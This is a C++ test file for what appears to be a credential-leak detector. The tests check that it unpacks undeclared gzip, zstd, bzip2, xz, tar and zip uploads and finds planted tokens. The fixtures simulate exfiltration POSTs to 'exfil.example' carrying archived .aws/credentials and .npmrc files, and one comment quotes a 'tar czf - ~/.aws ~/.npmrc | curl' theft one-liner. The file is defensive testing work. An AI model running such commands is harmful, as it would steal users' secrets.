// Compressed streams and archives nobody declared (no Content-Encoding, no content type): found
// by their magic numbers in a raw body or after base64, unpacked under the bomb limits, and
// counted; what cannot be decoded (zip methods other than stored and deflate) is counted, not
// guessed at.
#include <gtest/gtest.h>

#include "chunk_recorder.h"
#include "compress_support.h"
#include "stream/decoders/egress_decoder.h"
#include "stream/decoders/text_codecs.h"

namespace credsentry::stream::decoders {
namespace {

using testing::Bytes;
using testing::ChunkRecorder;
using testing::Base64;
using testing::RandomToken;

std::string Post(const std::string& body) {
  return "POST /upload HTTP/1.1\r\nHost: exfil.example\r\nContent-Type: application/octet-stream\r\n"
         "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
}

struct Decoded {
  ChunkRecorder recorder;
  DecoderCounters counters;
};

Decoded Decode(const std::string& wire) {
  Decoded out;
  EgressDecoder decoder{DecoderLimits{}};
  auto sink = out.recorder.Sink();
  decoder.Feed(Bytes(wire), sink);
  out.counters = decoder.counters();
  return out;
}

// A ustar archive as `tar cf -` writes it: one 512-byte header per file, contents padded.
std::string Tar(const std::vector<std::pair<std::string, std::string>>& files) {
  std::string out;
  for (const auto& [name, content] : files) {
    std::string h(512, '\0');
    h.replace(0, name.size(), name);
    h.replace(100, 7, "0000644");
    char size[12];
    std::snprintf(size, sizeof size, "%011o", static_cast<unsigned>(content.size()));
    h.replace(124, 11, size);
    h[156] = '0';
    h.replace(257, 6, std::string("ustar\0", 6));
    out += h + content + std::string((512 - content.size() % 512) % 512, '\0');
  }
  return out + std::string(1024, '\0');
}

void PutLe(std::string& s, uint32_t v, int n) {
  for (int i = 0; i < n; ++i) s += static_cast<char>((v >> (8 * i)) & 0xff);
}

// Local file headers with sizes (as zipfile writes to a seekable file); method 0 or 8.
std::string Zip(const std::vector<std::tuple<std::string, std::string, int>>& files) {
  std::string out;
  for (const auto& [name, content, method] : files) {
    std::string data = method == 8 ? testing::Deflate(content, -15) : content;
    out += std::string("PK\3\4", 4);
    PutLe(out, 20, 2);      // version
    PutLe(out, 0, 2);       // flags
    PutLe(out, method, 2);  // method
    PutLe(out, 0, 4);       // time, date
    PutLe(out, 0, 4);       // crc (not checked)
    PutLe(out, static_cast<uint32_t>(data.size()), 4);
    PutLe(out, static_cast<uint32_t>(content.size()), 4);
    PutLe(out, static_cast<uint32_t>(name.size()), 2);
    PutLe(out, 0, 2);
    out += name + data;
  }
  return out + std::string("PK\1\2", 4);  // the central directory would follow
}

// What `zip - files` or Python's zipfile writes to a pipe: flag bit 3, zero sizes in the local
// header, and a data descriptor (signature, crc, sizes) after each entry's data.
std::string StreamedZip(const std::vector<std::tuple<std::string, std::string, int>>& files) {
  std::string out;
  for (const auto& [name, content, method] : files) {
    std::string data = method == 8 ? testing::Deflate(content, -15) : content;
    out += std::string("PK\3\4", 4);
    PutLe(out, 20, 2);
    PutLe(out, 0x08, 2);
    PutLe(out, method, 2);
    PutLe(out, 0, 4);
    PutLe(out, 0, 4);
    PutLe(out, 0, 4);
    PutLe(out, 0, 4);
    PutLe(out, static_cast<uint32_t>(name.size()), 2);
    PutLe(out, 0, 2);
    out += name + data + std::string("PK\7\x08", 4);
    PutLe(out, 0x12345678, 4);
    PutLe(out, static_cast<uint32_t>(data.size()), 4);
    PutLe(out, static_cast<uint32_t>(content.size()), 4);
  }
  return out + std::string("PK\1\2", 4);
}

TEST(UndeclaredContainers, RawCompressedBodiesOfEveryFormatAreInflatedAsTheyStream) {
  std::string token = RandomToken();
  const std::pair<std::string, std::string> cases[] = {
      {testing::Gzip("{\"key\":\"" + token + "\"}"), "gzip(sniffed)"},
      {testing::Zstd("AWS_SECRET=" + token), "zstd(sniffed)"},
      {testing::Deflate("AWS_SECRET=" + token, 15), "deflate(sniffed)"},
      {testing::Bzip2("AWS_SECRET=" + token), "bzip2(sniffed)"},
      {testing::Xz("{\"key\":\"" + token + "\"}"), "xz(sniffed)"},
  };
  for (const auto& [body, step] : cases) {
    auto d = Decode(Post(body));
    const auto* unit = d.recorder.Find(token, "http1.body");
    ASSERT_NE(unit, nullptr) << step;
    EXPECT_EQ(unit->decoding, (std::vector<std::string>{"http1", step}));
    EXPECT_EQ(d.counters.undeclared_compressed, 1u) << step;
  }
}

TEST(UndeclaredContainers, ZstdAfterBase64InAJsonFieldIsInflated) {
  std::string token = RandomToken();
  auto d = Decode(Post("{\"loot\":\"" + Base64(testing::Zstd("HF_TOKEN=" + token)) + "\"}"));
  const auto* unit = d.recorder.Find(token, "decoded.inflated");
  ASSERT_NE(unit, nullptr);
  EXPECT_EQ(unit->decoding.back(), "zstd");
  EXPECT_EQ(unit->decoding[unit->decoding.size() - 2], "base64");
}

TEST(UndeclaredContainers, Bzip2AndXzAfterBase64InAJsonFieldAreInflated) {
  std::string token = RandomToken();
  const std::pair<std::string, std::string> cases[] = {
      {testing::Bzip2("HF_TOKEN=" + token), "bzip2"},
      {testing::Xz("HF_TOKEN=" + token), "xz"},
  };
  for (const auto& [compressed, step] : cases) {
    auto d = Decode(Post("{\"loot\":\"" + Base64(compressed) + "\"}"));
    const auto* unit = d.recorder.Find(token, "decoded.inflated");
    ASSERT_NE(unit, nullptr) << step;
    EXPECT_EQ(unit->decoding.back(), step);
    EXPECT_EQ(unit->decoding[unit->decoding.size() - 2], "base64");
    EXPECT_EQ(d.counters.undeclared_compressed, 1u) << step;
    EXPECT_EQ(d.counters.decompress_errors, 0u) << step;
  }
}

TEST(UndeclaredContainers, TarBz2AndTarXzGiveEachFileRawAndAfterBase64) {
  // What `tar cjf -` and `tar cJf -` send.
  std::string aws = RandomToken(), npm = RandomToken();
  std::string tar = Tar({{".aws/credentials", "aws_secret_access_key = " + aws + "\n"},
                         {".npmrc", "//registry.npmjs.org/:_authToken=" + npm + "\n"}});
  for (const std::string& packed : {testing::Bzip2(tar), testing::Xz(tar)}) {
    for (const std::string& body : {packed, Base64(packed)}) {
      auto d = Decode(Post(body));
      const auto* first = d.recorder.Find(aws, "decoded.archive");
      ASSERT_NE(first, nullptr);
      ASSERT_NE(d.recorder.Find(npm, "decoded.archive"), nullptr);
      EXPECT_EQ(first->decoding.back(), "tar");
      EXPECT_EQ(d.counters.archive_entries, 2u);
    }
  }
}

TEST(UndeclaredContainers, TarGzOfAHomeDirectoryGivesEachFile) {
  // What `tar czf - ~/.aws ~/.npmrc | curl --data-binary @-` sends.
  std::string aws = RandomToken(), npm = RandomToken();
  std::string tgz = testing::Gzip(Tar({{".aws/credentials", "aws_secret_access_key = " + aws + "\n"},
                                       {".npmrc", "//registry.npmjs.org/:_authToken=" + npm + "\n"}}));
  for (const std::string& body : {tgz, Base64(tgz)}) {
    auto d = Decode(Post(body));
    const auto* first = d.recorder.Find(aws, "decoded.archive");
    const auto* second = d.recorder.Find(npm, "decoded.archive");
    ASSERT_NE(first, nullptr);
    ASSERT_NE(second, nullptr);
    EXPECT_EQ(first->decoding.back(), "tar");
    // Raw, the body decoder inflates it as it streams; after base64, the deriver does.
    EXPECT_EQ(first->decoding[first->decoding.size() - 2].substr(0, 4), "gzip");
    EXPECT_EQ(d.counters.archive_entries, 2u);
  }
}

TEST(UndeclaredContainers, ZipEntriesStoredAndDeflatedAreUnpacked) {
  std::string stored = RandomToken(), deflated = RandomToken();
  auto d = Decode(Post(Zip({{"a.env", "TOKEN=" + stored, 0},
                            {"b.env", "KEY=" + deflated + std::string(200, ' '), 8}})));
  const auto* a = d.recorder.Find(stored, "decoded.archive");
  const auto* b = d.recorder.Find(deflated, "decoded.archive");
  ASSERT_NE(a, nullptr);
  ASSERT_NE(b, nullptr);
  EXPECT_EQ(a->decoding.back(), "zip");
  EXPECT_EQ(b->decoding.back(), "deflate");
  EXPECT_EQ(d.counters.archive_entries, 2u);
}

TEST(UndeclaredContainers, StreamedZipEntriesAreDelimitedByTheirDescriptors) {
  // Written to a pipe, a zip gives each entry's sizes only after its data: a deflated entry ends
  // where its deflate stream does, a stored one at the descriptor whose size fits.
  std::string a = RandomToken(), b = RandomToken(), c = RandomToken();
  std::string zip = StreamedZip({{"a.env", "TOKEN=" + a + std::string(300, ' '), 8},
                                 {"b.env", "KEY=" + b, 0},
                                 {"c.env", "SECRET=" + c + std::string(100, '-'), 8}});
  for (const std::string& body : {zip, Base64(zip)}) {
    auto d = Decode(Post(body));
    for (const std::string& token : {a, b, c}) {
      EXPECT_NE(d.recorder.Find(token, "decoded.archive"), nullptr);
    }
    EXPECT_EQ(d.counters.archive_entries, 3u);
    EXPECT_EQ(d.counters.undeclared_unsupported, 0u);
    EXPECT_EQ(d.counters.parse_errors, 0u);
  }
}

TEST(UndeclaredContainers, ZipMethodsThatCannotBeDecodedAreCountedNotGuessed) {
  std::string zip = Zip({{"x", "data", 0}});
  zip[8] = 12;  // bzip2 inside zip
  EXPECT_EQ(Decode(Post(zip)).counters.undeclared_unsupported, 1u);
  // A stored streamed entry with no descriptor that fits: what is there is still matched.
  std::string token = RandomToken();
  std::string cut = StreamedZip({{"x", "TOKEN=" + token, 0}});
  cut.resize(cut.size() - 16);
  auto d = Decode(Post(cut));
  EXPECT_NE(d.recorder.Find(token, "decoded.archive"), nullptr);
}

TEST(UndeclaredContainers, Bzip2AndXzBombsAndCorruptStreamsAreStoppedAndCounted) {
  // 8 MiB of one byte packs into a few dozen bytes of bzip2: the ratio cap stops it.
  EXPECT_GE(Decode(Post(testing::Bzip2(std::string(8 << 20, 'A')))).counters.bombs_stopped, 1u);
  EXPECT_GE(Decode(Post(Base64(testing::Xz(std::string(8 << 20, 'A'))))).counters.bombs_stopped, 1u);
  // An xz stream asking for a 4 GiB dictionary is refused before it allocates it.
  std::string token = RandomToken();
  auto huge = Decode(Post(Base64(testing::XzAskingForHugeDictionary("KEY=" + token))));
  EXPECT_GE(huge.counters.bombs_stopped, 1u);
  // Right magic, broken stream: counted as a decompression error, nothing invented.
  std::string bz = testing::Bzip2("KEY=" + token);
  for (size_t i = 10; i < bz.size(); ++i) bz[i] = static_cast<char>(bz[i] ^ 0x5a);
  EXPECT_GE(Decode(Post(Base64(bz))).counters.decompress_errors, 1u);
  std::string xz = testing::Xz("KEY=" + token);
  for (size_t i = 24; i + 12 < xz.size(); ++i) xz[i] = static_cast<char>(xz[i] ^ 0x5a);
  EXPECT_GE(Decode(Post(Base64(xz))).counters.decompress_errors, 1u);
}

TEST(UndeclaredContainers, HostileArchivesAreCountedAndBounded) {
  // A tar whose size field is not octal, and one cut in the middle of its only file.
  std::string bad = Tar({{"f", "x"}});
  bad[124] = '9';
  EXPECT_GE(Decode(Post(bad)).counters.parse_errors, 1u);
  std::string token = RandomToken();
  std::string cut = Tar({{"f", token + std::string(2000, '.')}}).substr(0, 700);
  EXPECT_NE(Decode(Post(cut)).recorder.Find(token, "decoded.archive"), nullptr);
  // A zip of many entries that each inflate far past their size: one budget stops them all.
  std::vector<std::tuple<std::string, std::string, int>> bombs;
  for (int i = 0; i < 40; ++i) bombs.emplace_back("z" + std::to_string(i), std::string(1 << 20, 'A'), 8);
  auto d = Decode(Post(Zip(bombs)));
  EXPECT_GE(d.counters.bombs_stopped, 1u);
}

}  // namespace
}  // namespace credsentry::stream::decoders
